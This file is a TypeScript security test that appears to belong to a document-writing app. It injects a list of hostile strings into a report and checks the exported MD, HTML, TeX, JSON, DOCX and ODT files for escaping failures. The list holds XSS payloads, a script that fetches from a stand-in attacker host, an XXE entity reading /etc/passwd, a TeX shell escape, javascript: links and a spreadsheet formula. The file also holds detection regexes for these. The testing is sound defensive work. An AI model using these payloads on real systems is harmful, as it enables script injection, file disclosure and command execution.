import { readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { toId } from '#shared/base/ids.ts';
import { createParser } from '#main/adapters/section-markdown/create-parser.ts';
import { createCoreHost } from '#main/app/core-host.ts';
import { fileOfProject } from '#main/app/project-files.ts';

/** Words that are markup, commands or marks somewhere: as title, author, heading, text, code, formula's neighbour, caption. */
export const hostileWords: readonly string[] = [
  '<script>fetch("http://evil.example")</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  ']]><!-- <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> &y;',
  '\\immediate\\write18{id} \\input{/etc/passwd}',
  '\\catcode`\\@=11 ^^5cinput{x} $x$ \\(y\\) %',
  '\\end{document}\\begin{verbatim}',
  '![a](http://evil.example/a.png) [b](javascript:alert(1)) <http://evil.example>',
  '[@evi_aaaaaa] [^1] {#id .class} $$x$$ `code`',
  '---\ntitle: taken over\n---',
  'invoice \u202efdp.exe \u2066x',
  'a\u0000b\u0001c\u001fd\ufffee\uffff',
  'half \ud800 of one',
  '\\end{heddlecode}\\end{verbatim}\\input{/etc/passwd}',
  '=HYPERLINK("http://evil.example")',
  'x\u2028y\u2029z',
];

const formats = ['md', 'html', 'tex', 'json', 'docx', 'odt'] as const;

/** Exports a report whose every word is hostile in each format, and tells what of it is more than text. */
export async function exportHostile(): Promise<{ readonly exports: number; readonly broken: readonly string[] }> {
  const root = await mkdtemp(join(tmpdir(), 'heddle-attack-'));
  const host = createCoreHost({
    environment: { HOME: root, HEDDLE_CONFIG_DIR: join(root, 'config'), HEDDLE_OFFLINE: '1' },
  });
  const connection = host.connect();
  const folder = join(root, 'project');
  const broken: string[] = [];
  let exports = 0;
  try {
    await connection.invoke('project.create', { folder });
    const items = hostileWords.map((words, order) => ({ itemId: toId('itm', `hostile${order}`), words, order }));
    await connection.invoke('outline.edit', {
      folder,
      baseVersion: 0,
      edits: items.map(({ itemId, words, order }) => ({
        kind: 'add',
        itemId,
        parentId: null,
        order,
        heading: words,
        intent: words,
        role: 'body',
      })),
    });
    for (const { itemId, words } of items) {
      const text = { type: 'text', text: words } as const;
      const link = { ...text, marks: [{ type: 'link', attrs: { href: `javascript:alert(1)//${words}` } }] } as const;
      const body = {
        type: 'doc',
        content: [
          { type: 'paragraph', content: [text, { ...link, marks: [...link.marks] }] },
          { type: 'heading', attrs: { level: 2 }, content: [text] },
          { type: 'codeBlock', attrs: { language: words }, content: [text] },
          { type: 'blockquote', content: [{ type: 'paragraph', content: [text] }] },
        ],
      } as const;
      const written = await connection.invoke('section.write', {
        folder,
        itemId,
        baseRevision: 0,
        body: structuredClone(body),
      });
      if (!written.ok) broken.push(`not written: ${written.fault.message}`);
    }
    for (const words of hostileWords) {
      await connection.invoke('report.edit', { folder, title: words, authors: [words] });
      for (const format of formats) {
        const done = await connection.invoke('report.export', { folder, format, withQuotes: true, hasContents: true });
        if (!done.ok) {
          broken.push(
            `${format} of ${JSON.stringify(words)}: ${done.fault.code}: ${done.fault.detail ?? done.fault.message}`,
          );
          continue;
        }
        exports += 1;
        const found = fileOfProject(host, { kind: 'export', folder, id: done.value.exportId ?? '' });
        if (found !== null)
          broken.push(
            ...moreThanText(format, readFileSync(found.path)).map((what) => `${what}, titled ${JSON.stringify(words)}`),
          );
      }
    }
    return { exports, broken };
  } finally {
    await host.close();
    await rm(root, { recursive: true, force: true, maxRetries: 5 });
  }
}

function moreThanText(format: (typeof formats)[number], bytes: Uint8Array): readonly string[] {
  const parts = bytes[0] === 0x50 && bytes[1] === 0x4b ? unzipSync(bytes) : { report: bytes };
  return Object.entries(parts).flatMap(([name, part]) => {
    const text = strFromU8(part);
    const found: (readonly [string, boolean])[] = [];
    if (/\.(?:xml|rels|rdf)$/.test(name)) found.push(['is not well-formed', !isWellFormed(text)]);
    if (name.endsWith('.rels')) found.push(['links to evil', /Target="(?:javascript:|http:\/\/evil)/.test(text)]);
    if (format === 'html') {
      found.push(['has a handler', /<[a-z][^<>]*\son[a-z]+\s*=/iu.test(text.replaceAll(/"[^"<>]*"/g, '""'))]);
      found.push(['has a script of the text', /<script>fetch/.test(text)]);
      found.push(['links to evil', /(?:href|src)\s*=\s*["']?\s*(?:javascript:|http:\/\/evil)/iu.test(text)]);
    }
    if (format === 'tex') {
      const command = /.{0,60}\\(?:write18|immediate|input\{(?:\/|x)).{0,30}/.exec(text);
      found.push([`has a command of the text: ${command?.[0] ?? ''}`, command !== null]);
      found.push(['has a character command', /\^\^5c/.test(text)]);
      found.push(['ends early', (text.match(/\\end\{document\}/g)?.length ?? 0) > 1]);
    }
    if (format === 'md') {
      const tokens = createParser()
        .parse(text, {})
        .flatMap(({ children }) => children ?? []);
      const links = tokens.map((token) => token.attrGet('href') ?? token.attrGet('src') ?? '');
      found.push(['links to evil', links.some((link) => /^javascript:|^http:\/\/evil/.test(String(link)))]);
    }
    if (format === 'json') found.push(['is no JSON', !isJson(text)]);
    return found.filter(([, isBroken]) => isBroken).map(([what]) => `${format} ${name} ${what}`);
  });
}

/** Characters that XML may have, entities that it knows, and tags that close what was opened. */
function isWellFormed(xml: string): boolean {
  if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(xml) || !xml.isWellFormed()) return false;
  if (/&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[\da-fA-F]+);)/.test(xml)) return false;
  const open: string[] = [];
  let at = 0;
  for (const { 0: tag, 1: slash, 2: name, 3: rest = '', index } of xml.matchAll(
    /<(\/?)([\w:.-]+)((?:\s+[\w:.-]+\s*=\s*(?:"[^"<]*"|'[^'<]*'))*\s*\/?)>|<\?[^?]*\?>/g,
  )) {
    if (xml.slice(at, index).includes('<')) return false;
    at = index + tag.length;
    if (name === undefined) continue;
    if (slash === '/') {
      if (open.pop() !== name) return false;
    } else if (!rest.endsWith('/')) open.push(name);
  }
  return open.length === 0 && !xml.slice(at).includes('<');
}

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}
